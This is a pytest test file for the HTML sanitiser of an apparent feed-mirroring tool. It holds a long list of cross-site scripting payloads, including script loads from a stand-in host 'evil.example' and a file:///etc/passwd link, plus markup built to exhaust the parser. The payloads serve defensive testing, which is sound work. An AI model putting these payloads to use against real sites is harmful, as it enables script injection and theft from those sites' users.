import time

import pytest

from feedmirror.configuration import Images
from feedmirror.mirroring.content import CUT_NOTE, LIMIT, clean_content, plain_text
from feedmirror.mirroring.nesting import is_tangled
from markup_check import assert_safe

BASE = "https://news.example/2026/10/a-bridge/"

# Each of these runs a script, loads something or takes the page over in some browser or behind
# some sanitiser; none is copied from a list. %s marks where the address or script stands.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<script/x>alert(1)</script >",
    "<script>/*</script><img src=x onerror=alert(1)>*/",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='https://a.example/a.png' onload=alert(1) style='x:expression(alert(1))'>",
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img srcset="https://evil.example/a.png 1x, javascript:alert(1) 2x">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    '<image src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="java&#x200b;script:alert(1)">x</a>',
    '<a href="java&#xAD;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#x3a;alert(1)">x</a>',
    '<a href="javascript\uff1aalert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:https://a.example/">x</a>',
    '<a href="blob:https://a.example/1">x</a>',
    '<a href="mailto:a@b.example&quot;onclick=alert(1)//">x</a>',
    '<a href="https://a.example/\\@evil.example">x</a>',
    "<a href='https://a.example/\"onmouseover=\"alert(1)'>x</a>",
    '<a href="https://a.example/" ping="https://evil.example/" target=_top onclick=alert(1)>x</a>',
    '<a href="https://a.example/" rel="opener" rel="follow">x</a>',
    '<a title="&quot; onmouseover=alert(1) x=&quot;" href="https://a.example/">x</a>',
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<svg><title><style><!--</style><img src=x onerror=alert(1)>--></title></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">x</math>',
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
        " onerror=alert(1)&gt;'>"
    ),
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>",
    "<!--x--!><img src=x onerror=alert(1)>-->",
    "<!-- --\n><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<![><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "</<img src=x onerror=alert(1)>",
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel=prefetch href="https://evil.example/">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<p style="position:fixed;inset:0">over everything</p>',
    '<table background="https://evil.example/x"><td background="javascript:alert(1)">x</table>',
    '<body background="https://evil.example/x" onload=alert(1)>x',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe><img src=x onerror=alert(1)></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)"><applet code=X></applet>',
    '<video src=x onerror=alert(1) poster="javascript:alert(1)"></video>',
    "<video><source onerror=alert(1) src='javascript:alert(1)'></video>",
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<picture><source srcset='https://evil.example/x'><img src=x onerror=alert(1)></picture>",
    '<form action="javascript:alert(1)"><input type=submit formaction="javascript:alert(1)">',
    "<button onclick=alert(1)>x</button><isindex action=javascript:alert(1) type=image>",
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1)><option>x</select>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<slot onslotchange=alert(1)></slot><x-y onclick=alert(1) tabindex=1>x</x-y>",
    "<details ontoggle=alert(1) open>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<p id=body name=cookie class=header>clobbering</p><a name=getElementById>x</a>",
    "<a id=x><a id=x name=y href='https://a.example/'>clobbering</a>",
    "<table><tr><td><a href='javascript:alert(1)'><table><a href='https://a.example/'>x</a>",
    (
        '<select><template><style><!--</template><a rel="--></style></template></select>'
        '<img src onerror=alert(1)>">'
    ),
    "<p>{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %></p>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<div dir=\"rtl' onclick='alert(1)\" lang='en\" onclick=alert(1)'>x</div>",
    "<ol start=\"1' onclick='alert(1)\"><li value=x>x</ol>",
    "<time datetime='1\" onclick=\"alert(1)'>x</time>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote><q cite='data:,x'>x</q>",
    '<td colspan="99999999">x',
    "<p\x0bonclick=alert(1)>x",
    "\ud800<img src=x onerror=alert(1)>\udfff",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "¼script¾alert(1)¼/script¾",
    "a\u202eb\u2066c\ufeffd\ufffee\x85f&#x202e;g&#8206;h&#xFDD0;i&#1;j",
]


def clean(markup: str, *, base: str = BASE, images: Images = Images.LINK) -> str:
    cleaned = clean_content(markup, base_url=base, images=images)
    assert_safe(cleaned)
    assert clean_content(cleaned, base_url=base, images=images) == cleaned
    return cleaned


@pytest.mark.parametrize(
    "markup",
    [
        "<p>a<b>b</b>'\"&amp;&nbsp;</p>",
        '<p><a href="/a;" title="x&quot;\'&lt;">b</a> <a href="mailto:a@b.example">c</a></p>',
        '<img src="https://a.example/ä;?#" alt="&nbsp;x"><img src="http://a.example/b" alt="c">',
        '<p> rel="noopener nofollow"<a href="https://a.example"> loading="lazy"</a></p>',
        "<pre>\n\nx</pre><ol reversed start=3><li value=1>x</ol><details open>y</details>",
        '<div title="a&nbsp;b">x</div><table><tr><td><a href="/a">x<div><a href="/b">y</a>',
        "<b><p>x<b><p>y</b></p><ul><li>z<ul><li>w</ul></ul><video src='/v'>v</video>",
        "<p>x" * 30_000,
    ],
)
@pytest.mark.parametrize("base", ["https://a.example/", "http://ä.example/b;c", ""])
def test_what_is_taken_as_clean_would_be_written_again_as_it_is(markup: str, base: str) -> None:
    clean(markup, base=base)
    clean(markup, base=base, images=Images.NONE)


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_acts_is_left(vector: str) -> None:
    clean(vector)
    clean(f"<p>before {vector} after</p>")
    clean(f"<table><tr><td>{vector}</table>")
    clean(f"<svg>{vector}</svg><math>{vector}</math><select>{vector}")


@pytest.mark.parametrize("scheme", ["javascript", "data", "vbscript", "file", "ftp", "tel", "x"])
def test_a_link_of_another_scheme_leaves_its_words(scheme: str) -> None:
    assert clean(f'<p>see <a href="{scheme}:y">the words</a></p>') == "<p>see the words</p>"


def test_the_structure_of_a_text_is_kept() -> None:
    markup = (
        "<h2>One</h2><p>A <strong>bold</strong>, <em>plain</em> <code>x &lt; y</code><br>line</p>"
        '<ul><li>a</li></ul><ol start="3"><li>b</li></ol><dl><dt>t</dt><dd>d</dd></dl>'
        '<blockquote cite="https://a.example/b"><p>said</p></blockquote><hr>'
        "<pre><code>  two\n    lines</code></pre>"
        '<table><caption>c</caption><thead><tr><th scope="col">h</th></tr></thead>'
        '<tbody><tr><td colspan="2">x</td></tr></tbody></table>'
        "<figure><figcaption>f</figcaption></figure>"
        '<p><ruby>漢<rt>kan</rt></ruby> <del datetime="2026-10-01">old</del> <ins>new</ins>'
        ' H<sub>2</sub>O x<sup>2</sup> <abbr title="one">1</abbr>'
        ' <time datetime="2026-10-02T10:00:00Z">then</time></p>'
        "<details><summary>s</summary>more</details>"
        '<p dir="rtl" lang="ar">نص</p>'
    )

    assert clean(markup) == markup


def test_links_are_made_whole_and_carry_their_rel_once() -> None:
    markup = '<a href="../b?x=1&amp;y=2" rel="nofollow noopener nofollow" target="_blank">b</a>'

    assert clean(markup) == (
        '<a href="https://news.example/2026/10/b?x=1&amp;y=2" rel="noopener nofollow">b</a>'
    )


def test_a_footnote_leads_to_the_original() -> None:
    assert f'href="{BASE}#fn1"' in clean('<a href="#fn1">1</a>')


def test_a_mail_address_stays_a_link() -> None:
    assert 'href="mailto:ann@news.example"' in clean('<a href="MAILTO:ann@news.example">Ann</a>')


@pytest.mark.parametrize(
    "base", ["", "x", "http://[", "feed://a.example/", "//", "javascript:alert(1)", "https://a\n.b"]
)
def test_an_odd_base_never_raises_and_never_makes_a_bad_link(base: str) -> None:
    cleaned = clean('<a href="b">b</a><img src="c.png" alt="c"> t', base=base)

    assert "b" in cleaned
    assert "t" in cleaned


def test_the_publishers_closing_line_is_kept() -> None:
    line = (
        '<p>The post <a href="https://news.example/a" rel="nofollow">A Bridge</a> appeared first'
        ' on <a href="https://news.example" rel="nofollow">News</a>.</p>'
    )

    assert clean(line) == line.replace('"nofollow"', '"noopener nofollow"')


def test_the_page_keeps_its_one_h1_and_its_own_sections() -> None:
    assert clean("<article><h1>T</h1><section>a</section><section>b</section></article>") == (
        "<div><h2>T</h2><div>a</div><div>b</div></div>"
    )


def test_an_image_is_shown_from_where_it_is_without_telling_who_reads() -> None:
    markup = '<img src="/a.png" width="640" height="100%" class="x" style="height:auto">'

    assert clean(markup) == (
        '<img src="https://news.example/a.png" alt="" width="640" loading="lazy"'
        ' referrerpolicy="no-referrer">'
    )


def test_without_images_their_words_stay() -> None:
    cleaned = clean('<p>a <img src="/a.png" alt="An &amp; old mill"> b</p>', images=Images.NONE)

    assert cleaned == "<p>a An &amp; old mill b</p>"


def test_an_image_that_an_https_page_cannot_load_becomes_a_link() -> None:
    assert clean('<img src="http://a.example/a.png" alt="A mill">') == (
        '<a href="http://a.example/a.png" rel="noopener nofollow">A mill</a>'
    )
    assert ">Image: a.example</a>" in clean('<img src="http://a.example/a.png">')
    assert clean('x<img src="http://a.example/a.png" alt="">') == "x"
    assert ">A mill</a>" in clean(
        '<a href="https://b.example/"><img src="http://a.example/a.png" alt="A mill"></a>'
    )


@pytest.mark.parametrize(
    "counter",
    [
        '<img src="https://a.example/x" width="1" height="1" alt="">',
        '<img src="https://a.example/x" height="0px">',
        '<img src="https://a.example/x" style="display: none">',
        '<img src="https://a.example/x" style="border:0;width:1px;height:1px">',
        '<img src="http://feeds.feedburner.com/~r/Blog/~4/abc" alt="">',
        (
            '<a href="http://feeds.feedburner.com/~ff/Blog?a=b"><img'
            ' src="http://feeds.feedburner.com/~ff/Blog?d=yIl2AUoC8zA" border="0"></a>'
        ),
        '<img src="https://pixel.wp.com/b.gif?host=news.example&amp;post=12">',
        '<img src="https://medium.com/_/stat?event=post.clientViewed">',
        '<img src="https://news.example/wp-content/plugins/republication-tracker-tool/x.php?p=1">',
        '<img src="https://news.example/stats/12.gif">',
        '<img src="https://news.example/img/1x1.png">',
        '<noscript><img width="1" src="https://www.facebook.com/tr?id=1&amp;noscript=1"></noscript>',
        (
            '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=1" height="0"'
            ' width="0" style="display:none"></iframe></noscript>'
        ),
    ],
)
def test_what_only_counts_readers_vanishes_without_a_trace(counter: str) -> None:
    assert clean(f"<p>Words.</p><p>{counter}</p>") == "<p>Words.</p>"


@pytest.mark.parametrize(
    "picture",
    [
        '<img src="https://a.example/stats/chart.png" alt="">',
        '<img src="https://a.example/pixel-art.gif" alt="">',
        '<img src="https://a.example/a.png" style="border-width: 1px; max-width: 100%" alt="">',
        '<img src="https://a.example/a.png" width="12" alt="">',
    ],
)
def test_a_picture_is_not_taken_for_a_counter(picture: str) -> None:
    assert "<img " in clean(picture)


def test_an_emoji_is_a_character_again() -> None:
    markup = 'Hi <img src="https://s.w.org/images/core/emoji/15/72x72/1f349.png" alt="🍉">!'

    assert clean(markup) == "Hi 🍉!"


@pytest.mark.parametrize(
    "embedded",
    [
        '<iframe src="https://video.example/1" allowfullscreen></iframe>',
        '<iframe src="//video.example/1">no frames</iframe>'.replace("no frames", ""),
        '<video src="https://video.example/1"><p>Too old a browser.</p></video>',
        '<video><source src="https://video.example/1"><source src="https://video.example/2"></video>',
        '<audio controls><source src="https://video.example/1"></audio>',
        '<object data="https://video.example/1"><embed src="https://video.example/1"></object>',
        '<embed src="https://video.example/1">',
    ],
)
def test_embedded_media_leave_one_link(embedded: str) -> None:
    link = '<a href="https://video.example/1" rel="noopener nofollow">Embedded media: '

    assert clean(f"<div>{embedded}</div>") == f"<div><p>{link}video.example</a></p></div>"
    assert clean(f"<p>x {embedded}</p>").count(link) == 1


def test_a_link_never_stands_in_a_link() -> None:
    cleaned = clean('<a href="/a">x<iframe src="https://video.example/1"></iframe></a>')

    assert cleaned.count("<a ") == 1
    assert "Embedded media: video.example" in cleaned


def test_a_formula_keeps_its_characters_and_a_lazy_image_its_picture() -> None:
    formula = "<math><semantics><mrow><mi>E</mi><mo>=</mo><mi>m</mi></mrow></semantics></math>"

    assert clean(formula) == "E=m"
    assert 'src="https://a.example/a.png"' in clean(
        '<img src="data:image/gif;base64,R0lG" data-src="https://a.example/a.png">'
        '<noscript><img src="https://a.example/a.png" alt=""></noscript>'
    )


def test_characters_that_nobody_sees_are_dropped_and_joiners_stay_where_they_spell() -> None:
    assert clean("a\u202eb&#x202e;c\u200bd\ufeff\u2066e\x07f\ufdd0") == "abcdef"
    assert clean("pay\u200dpal \u200cx") == "paypal x"
    assert clean("می\u200cنویسم 👩\u200d👧") == "می\u200cنویسم 👩\u200d👧"


def test_a_letter_that_is_an_ascii_one_but_for_its_case_makes_no_element() -> None:
    assert clean("<\u017fcript>x</\u017fcript>") == "&lt;\u017fcript&gt;x"
    assert clean("<\u0130frame>x") == "&lt;\u0130frame&gt;x"
    assert clean("<no\u017fcript>x <m\u0131>y") == "x y"  # unknown elements, not noscript and mi
    assert plain_text("<\u017fvg>x") == "<\u017fvg>x"


def test_white_space_in_code_is_kept() -> None:
    code = "<pre><code>def f():\n<span>    </span>return 1</code></pre>"

    assert clean(code) == "<pre><code>def f():\n    return 1</code></pre>"


def test_markup_that_nests_too_deep_is_told_in_plain_paragraphs() -> None:
    deep = "<div>" * 40_000 + "<p>one &lt;b&gt;</p><p>two <b>three</b></p>"
    started = time.perf_counter()

    assert clean(deep) == "<p>one &lt;b&gt;</p><p>two three</p>"
    assert plain_text(deep) == "one <b> two three"
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize(
    "attack",
    [
        "<span></i>" * 40_000,
        "<div><!--</div>-->" * 20_000,
        '<div title="</div>">' * 20_000,
        "<div a='</div>' b=c=\"></div>" * 20_000,
        '<div ="x></div><div a="x"="></div>' * 20_000,
        "<div><script></div></script>" * 15_000,
        "<div><![CDATA[</div>]]>" * 20_000,
        "<svg><tr>" * 40_000,
        "<select><style></select>" + "<div>" * 40_000 + "</style>",
        "<textarea><script></textarea>" + "<div>" * 40_000 + "</script>",
        "<script><!--</script>" + "<div>" * 40_000 + "-->",
        "<b><object></b></object>" * 500 + "<p>x" * 40_000,
        "<p>" + "".join(f"<b a={n}>" for n in range(400)) + "<p>x" * 40_000,
        "<rt>" * 60_000,
        "<table><td>" * 40_000,
        "&" * 400_000,
        "<" * 400_000,
        "<!--" * 100_000,
        "<a " * 100_000,
        "<iframe>" * 50_000,
        "<script>" * 50_000,
    ],
    ids=lambda attack: attack[:24],
)
def test_no_short_attack_costs_long(attack: str) -> None:
    started = time.process_time()

    clean_content(attack, base_url=BASE, images=Images.LINK)

    assert time.process_time() - started < 3


def test_ordinary_markup_is_never_taken_for_an_attack() -> None:
    sloppy = "<p><b><i>x</b></i><p>y<br><li>z<td>" * 400
    proper = "<div><p>x <b>y</b></p><ul><li>z</li></ul></div>" * 5_000

    assert not is_tangled(sloppy)
    assert not is_tangled(proper)
    assert not is_tangled("</b>" * 1_000)


def test_markup_that_never_settles_is_told_in_plain_paragraphs(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # No such markup is known; with one pass allowed, every unclosed tag is such.
    monkeypatch.setattr("feedmirror.mirroring.content._PASSES", 1)

    assert clean("<p>one <b>two<p>three") == "<p>one two</p><p>three</p>"


def test_a_very_long_text_is_cut_and_says_so() -> None:
    cleaned = clean("<div><p>word " + "<b>word</b> &amp; " * 60_000)

    assert len(cleaned) <= LIMIT
    assert len(cleaned) > LIMIT - 30_000
    assert cleaned.endswith(CUT_NOTE)
    assert cleaned.count(CUT_NOTE) == 1


def test_a_text_that_grows_when_it_is_escaped_is_still_cut() -> None:
    assert len(clean("&" * (LIMIT - 1))) <= LIMIT


def test_plain_text_keeps_words_apart_that_blocks_kept_apart() -> None:
    markup = "<h1>One</h1><p>t<b>w</b>o<br>three &amp;\n four</p><script>x</script><td>five"

    assert plain_text(markup) == "One two three & four five"


def test_plain_text_is_cut_at_a_word() -> None:
    assert plain_text("<p>one two, three</p>", limit=10) == "one two…"
    assert plain_text("<p>one two</p>", limit=7) == "one two"
    assert plain_text("<p>one two three</p>", limit=8) == "one two…"
    assert plain_text("漢字漢字漢字", limit=4) == "漢字漢…"
    assert plain_text("<p>one two</p>", limit=1) == "…"


def test_plain_text_shows_markup_that_was_meant_to_be_read() -> None:
    assert plain_text("Use &lt;b&gt; &amp;amp; be bold") == "Use <b> &amp; be bold"
